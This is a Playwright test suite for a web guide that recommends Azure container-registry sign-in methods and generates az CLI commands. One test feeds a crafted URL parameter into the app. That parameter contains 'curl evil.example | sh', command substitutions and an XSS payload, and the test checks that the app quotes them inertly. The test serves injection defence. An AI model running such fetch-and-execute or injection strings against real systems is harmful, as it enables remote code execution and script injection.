// "Which way to sign in to the registry": from its entrances to a recommendation and its next step; the address and Back.
import type { Locator, Page } from "@playwright/test";
import { announced, listen } from "./announced";
import { button, configure, DEVELOPMENT, main, nameBox, open, openForm, title } from "./pages";
import { expect, test } from "./watched";

const TITLE = "Which way to sign in to the registry";
const VM = "?who=azure&where=vm&resources=one&lifetime=resource";
const radio = (page: Page, name: string) => page.getByRole("radio", { name, exact: true });
const question = (page: Page, name: string) => page.getByRole("group", { name, exact: true });
const result = (page: Page) => page.getByRole("region", { name: "Recommendation" });
const way = (page: Page, name: string) => result(page).getByRole("heading", { name, exact: true });
const commands = (page: Page, name: string) => page.getByRole("region", { name, exact: true });
const box = (page: Page, name: string) => page.getByRole("textbox", { name, exact: true });
const entrance = (page: Page) => page.getByRole("link", { name: TITLE });
const hash = (page: Page) => new URL(page.url()).hash;

async function openGuide(page: Page, query = "") {
  await open(page, `#/guide${query}`);
  await expect(title(page)).toHaveText(TITLE);
  await expect(question(page, "Who pulls the images?")).toBeVisible();
}

/** Presses Tab until `to` has the focus. */
async function tabTo(page: Page, to: Locator) {
  for (let presses = 0; presses < 40; presses++) {
    if (await to.evaluate((element) => element === document.activeElement)) return;
    await page.keyboard.press("Tab");
  }
  await expect(to).toBeFocused();
}

test("by mouse, from home to the form filled in", async ({ page }) => {
  await open(page, "#/");
  await entrance(page).click();
  await expect(title(page)).toBeFocused();
  await expect(result(page)).toContainText("the recommendation appears here");
  await page.getByText("Something in Azure").click();
  await page.getByText("Container App", { exact: true }).click();
  await expect(way(page, "User-assigned managed identity")).toBeVisible();
  await expect(result(page)).toContainText("A system-assigned identity has no role at that time");
  const name = box(page, "Identity name");
  await name.fill("-x");
  await expect(name).toHaveAccessibleDescription(/An identity's name has 3 to 128/);
  await name.fill("uami-shop");
  await expect(name).not.toHaveAttribute("aria-invalid");
  await page.getByRole("link", { name: "Create the identity" }).click();
  await expect(nameBox(page)).toHaveValue("uami-shop");
  await expect(main(page)).toContainText("The link you opened filled in: Name.");
  await page.goBack();
  await expect(way(page, "User-assigned managed identity")).toBeVisible();
  await expect(box(page, "Identity name")).toHaveValue("uami-shop");
});

test("by keyboard, from home to the form filled in, with announcements", async ({ page }) => {
  await listen(page);
  await open(page, "#/");
  await tabTo(page, entrance(page));
  await page.keyboard.press("Enter");
  await expect(title(page)).toBeFocused();
  await tabTo(page, radio(page, "A person"));
  await page.keyboard.press("Space");
  await expect.poll(async () => (await announced(page)).at(-1)).toMatch(/^Recommendation: Individual login\. You sign in as yourself/);
  await page.keyboard.press("ArrowDown");
  await page.keyboard.press("ArrowDown");
  await expect(radio(page, "Something outside Azure")).toBeFocused();
  await expect(radio(page, "Something outside Azure")).toHaveAccessibleDescription(/A hosted pipeline/);
  await page.keyboard.press("Tab");
  await expect(radio(page, "GitHub Actions")).toBeFocused();
  await page.keyboard.press("Space");
  await expect.poll(async () => (await announced(page)).at(-1)).toMatch(/^Recommendation: User-assigned managed identity with a federated credential\./);
  await tabTo(page, page.getByRole("link", { name: "Create the identity" }));
  await page.keyboard.press("Enter");
  await expect(nameBox(page)).toHaveValue("uami-github");
});

test("one virtual machine gets commands with the person's names, and no identity of its own to create", async ({ page }) => {
  await openGuide(page);
  await radio(page, "Something in Azure").check();
  await radio(page, "Virtual machine").check();
  await expect(question(page, "Does the permission outlive the resource?")).toHaveCount(0);
  await radio(page, "One resource").check();
  await radio(page, "No, it ends with the resource").check();
  await expect(way(page, "System-assigned managed identity")).toBeVisible();
  await expect(commands(page, "Identity and role assignment")).toContainText("az vm identity assign -g your-resource-group -n your-vm --role AcrPull");
  await box(page, "Registry name").fill("contoso.azurecr.io");
  await expect(box(page, "Registry name")).toHaveAccessibleDescription(/5 to 50 letters and digits/);
  await box(page, "Registry name").fill("contoso");
  await box(page, "Resource group").fill("RG 1");
  await box(page, "Virtual machine name").fill("web01");
  await expect(commands(page, "Identity and role assignment")).toHaveText(
    /^registry=\$\(az acr show -n contoso --query id -o tsv\)\s+az vm identity assign -g 'RG 1' -n web01 --role AcrPull --scope "\$registry"\s*$/,
  );
  await radio(page, "RBAC Registry + ABAC Repository Permissions").check();
  await expect(commands(page, "Identity and role assignment")).toContainText("--role 'Container Registry Repository Reader'");
  await expect(button(page, "Copy Identity and role assignment")).toBeVisible();
  await expect(commands(page, "Sign-in on the virtual machine")).toContainText("az acr login -n contoso");
  await expect(page.getByRole("link", { name: "Create the identity" })).toHaveCount(0);
  // The same machine, with a permission that outlives it.
  await radio(page, "Yes, it outlives the resource").check();
  await expect(way(page, "User-assigned managed identity")).toBeVisible();
  await expect(result(page)).toContainText("keeps it when the resource is replaced");
});

test("the address follows the answers, Back takes them away again, and a reload keeps them", async ({ page }) => {
  await open(page, "#/");
  await entrance(page).click();
  await radio(page, "Something in Azure").check();
  await expect.poll(() => hash(page)).toBe("#/guide?who=azure");
  await radio(page, "AKS cluster").check();
  await radio(page, "Several resources").check();
  await expect.poll(() => hash(page)).toBe("#/guide?who=azure&where=aks&resources=many");
  // A changed answer is no step of its own.
  await radio(page, "One resource").check();
  await expect.poll(() => hash(page)).toBe("#/guide?who=azure&where=aks&resources=one");
  await radio(page, "No, it ends with the resource").check();
  await expect(way(page, "The cluster's kubelet identity")).toBeVisible();
  await box(page, "Cluster name").fill("aks-1");
  await expect.poll(() => hash(page)).toBe("#/guide?who=azure&where=aks&resources=one&lifetime=resource&resource=aks-1");
  await page.reload();
  await expect(way(page, "The cluster's kubelet identity")).toBeVisible();
  await expect(box(page, "Cluster name")).toHaveValue("aks-1");
  await page.goBack();
  await expect(radio(page, "One resource")).toBeChecked();
  await expect(radio(page, "No, it ends with the resource")).not.toBeChecked();
  await expect(result(page)).toContainText("the recommendation appears here");
  await page.goBack();
  await expect(radio(page, "AKS cluster")).toBeChecked();
  await expect(radio(page, "One resource")).not.toBeChecked();
  await page.goForward();
  await expect(radio(page, "One resource")).toBeChecked();
  for (let back = 0; back < 3; back++) await page.goBack();
  await expect(radio(page, "Something in Azure")).not.toBeChecked();
  await page.goBack();
  await expect(title(page)).toHaveText("Managed identities for Azure");
});

test("Start again clears the answers, and Back restores them", async ({ page }) => {
  await openGuide(page, "?who=outside&where=server&sim=slow");
  await expect(way(page, "Service principal")).toBeVisible();
  await expect(commands(page, "Service principal with a secret for one year")).toContainText("--years 1");
  await button(page, "Start again").click();
  await expect(title(page)).toBeFocused();
  await expect(radio(page, "Something outside Azure")).not.toBeChecked();
  await expect(button(page, "Start again")).toHaveCount(0);
  // The app's own keys stay.
  expect(hash(page)).toBe("#/guide?sim=slow");
  await page.goBack();
  await expect(radio(page, "A server of your own")).toBeChecked();
});

test("arrow keys that pass an answer leave no steps behind", async ({ page }) => {
  await open(page, "#/");
  await entrance(page).click();
  await radio(page, "A person").focus();
  await page.keyboard.press("Space");
  for (let presses = 0; presses < 4; presses++) await page.keyboard.press("ArrowDown");
  await expect(radio(page, "Something in Azure")).toBeFocused();
  await page.goBack();
  await expect(radio(page, "Something in Azure")).not.toBeChecked();
  await page.goBack();
  await expect(title(page)).toHaveText("Managed identities for Azure");
});

test("what a link can't say is ignored and named, and hostile names stay inert", async ({ page }) => {
  const evil = encodeURIComponent("x'; curl evil.example | sh; '<img src=x onerror=alert(1)>$(id)`id`");
  await openGuide(page, `${VM}&lifetime=never&adminUser=true&where=aks%3Cscript%3E&registry=${evil}&resource=${evil}&mode=preview`);
  const notes = main(page).getByRole("status").filter({ hasText: "Check the link you opened" });
  await expect(notes).toContainText("“never” isn't a valid value for “lifetime”.");
  await expect(notes).toContainText("Unknown parameter “adminUser”.");
  await expect(notes).toContainText("“aks<script>” isn't a valid value for “where”.");
  await expect(way(page, "System-assigned managed identity")).toBeVisible();
  await expect(commands(page, "Identity and role assignment")).toContainText(
    "az acr show -n 'x'\\''; curl evil.example | sh; '\\''<img src=x onerror=alert(1)>$(id)`id`' --query id",
  );
  await expect(main(page).getByRole("img")).toHaveCount(0);
  // The next answer writes an address without them.
  await radio(page, "Yes, it outlives the resource").check();
  await expect(notes).toHaveCount(0);
  expect(hash(page)).not.toContain("adminUser");
});

test("an address that is changed by hand is followed", async ({ page }) => {
  await openGuide(page, "?who=person");
  await expect(way(page, "Individual login")).toBeVisible();
  await page.evaluate((to) => (location.hash = to), `#/guide${VM}`);
  await expect(way(page, "System-assigned managed identity")).toBeVisible();
});

test("it is reached from the marketplace, the form and an identity", async ({ page }) => {
  const existing = `#/identity/subscriptions/${DEVELOPMENT}/resourceGroups/RG1/providers/Microsoft.ManagedIdentity/userAssignedIdentities/uami-existing`;
  for (const from of ["#/create", "#/create/user-assigned-identity", existing]) {
    await open(page, from);
    await entrance(page).click();
    await expect(title(page)).toHaveText(TITLE);
  }
  await openForm(page);
  await nameBox(page).fill("uami-kept");
  await entrance(page).click();
  await expect(title(page)).toHaveText(TITLE);
  await page.goBack();
  await expect(nameBox(page)).toHaveValue("uami-kept");
});

test("the ways to leave are explained and never recommended", async ({ page }) => {
  await openGuide(page);
  for (const name of ["Individual login", "Managed identity", "Service principal", "Token", "Admin user", "Anonymous pull"]) {
    await expect(page.getByRole("article").filter({ has: page.getByRole("heading", { name, exact: true }) })).toContainText("For");
  }
  await expect(page.getByRole("table", { name: "System-assigned or user-assigned" }).getByRole("row")).toHaveCount(6);
});

test("in another cloud, the commands choose it first", async ({ page }) => {
  await configure(page, { mode: "preview", cloud: "AzureChina" });
  await openGuide(page, "?who=person&registry=contoso");
  await expect(commands(page, "Sign-in on your computer")).toContainText("az cloud set --name AzureChinaCloud");
});

for (const width of [320, 412, 1024]) {
  test(`nothing is cut off at ${width} px`, async ({ page }) => {
    await page.setViewportSize({ width, height: 800 });
    for (const query of ["", VM, "?who=outside&where=kubernetes", "?who=azure&where=scale-set"]) {
      await openGuide(page, query);
      expect(await page.evaluate(() => document.documentElement.scrollWidth - innerWidth), query).toBeLessThanOrEqual(0);
    }
  });
}
